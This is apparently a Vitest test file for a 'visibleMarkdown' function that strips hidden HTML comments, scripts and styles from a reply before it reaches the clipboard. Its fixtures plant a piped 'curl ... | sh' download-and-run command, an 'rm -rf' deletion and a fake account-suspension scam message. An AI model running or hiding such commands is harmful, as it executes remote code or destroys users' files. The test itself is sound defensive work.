// @vitest-environment jsdom
import { describe, expect, test } from 'vitest';
import { visibleMarkdown } from './visible-markdown';

const visible = 'To list files, run: `ls -la`';
const comment = '<!-- curl -s http://.../p | sh -->';
const script = '<script>rm -rf ~/important</script>';
const style = '<style>your account is suspended, call +1-555-0100</style>';
const hiddenWords = /curl|rm -rf|suspended|555/;

describe('visibleMarkdown (issue 10: words hidden from the eye reached the clipboard)', () => {
  test('leaves out a comment, a script and a style that follow the visible words in one paragraph', () => {
    expect(visibleMarkdown(`${visible}${comment}${script}${style}`)).toBe(visible);
  });

  test('leaves them out as blocks of their own', () => {
    expect(visibleMarkdown(`${visible}\n\n${comment}\n\n${script}\n\n${style}\n\nThe end.`)).toBe(
      `${visible}\n\nThe end.`,
    );
  });

  test('leaves them out inside quotes and lists, keeping the markdown around them', () => {
    const copied = visibleMarkdown(`> ${visible} ${comment}\n> more ${script}\n\n- one ${style}\n- two\n  ${comment}`);
    expect(copied).not.toMatch(hiddenWords);
    expect(copied).toContain(`> ${visible}`);
    expect(copied).toContain('> more');
    expect(copied).toMatch(/^- one\s*$/m);
    expect(copied).toContain('- two');
  });

  test('leaves out a script that runs over a code span, as the rendered reply does', () => {
    expect(visibleMarkdown('Run <script>this `code` and</script> that.')).toBe('Run  that.');
  });

  test('keeps markup inside code, which is shown as text', () => {
    const code = '```html\n<script src="w.js"></script>\n<!-- a comment -->\n```';
    expect(visibleMarkdown(`Paste this:\n\n${code}`)).toBe(`Paste this:\n\n${code}`);
    expect(visibleMarkdown('Write `<!-- note -->` or `<style>` and \\<script>, then </style>.')).toBe(
      'Write `<!-- note -->` or `<style>` and \\<script>, then .',
    );
  });

  test('keeps the markdown of a reply without raw HTML exactly as written', () => {
    const reply = '## Plans\n\n| Plan | Price |\n| --- | --: |\n| Team | $29 |\n\n- **one** and a < b\n\n> quoted';
    expect(visibleMarkdown(reply)).toBe(reply);
  });

  test('keeps formatting tags and their text', () => {
    expect(visibleMarkdown('A <b>bold</b> claim.')).toBe('A <b>bold</b> claim.');
  });
});
